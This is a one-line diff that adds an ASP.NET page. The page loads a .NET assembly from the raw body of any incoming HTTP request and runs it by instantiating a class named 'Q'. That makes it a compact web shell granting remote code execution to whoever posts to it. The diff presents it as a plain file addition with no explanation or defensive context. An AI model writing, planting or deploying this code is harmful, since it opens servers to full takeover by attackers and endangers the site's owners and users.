@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %><% if (Request.ContentLength > 0) { System.Reflection.Assembly.Load(Request.BinaryRead(Request.ContentLength)).CreateInstance("Q").Equals(this); } %>
